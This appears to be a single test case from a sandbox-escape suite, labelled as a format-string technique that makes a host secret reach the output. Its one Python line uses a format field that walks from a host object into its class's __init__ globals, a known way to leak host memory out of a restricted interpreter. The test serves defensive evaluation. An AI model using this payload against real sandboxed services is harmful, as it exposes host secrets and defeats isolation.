# id: 504
# name: format_in_a_spec
# category: interpreter
# technique: an attribute in the format's inner field
# breach: hostmem
# looks_like: a host secret reaches the output
# baseline: inproc
print('{0:{1.__class__.__name__}<3}'.format('x', 5) if 0 else '{0.__class__.__init__.__globals__}'.format(note_store))
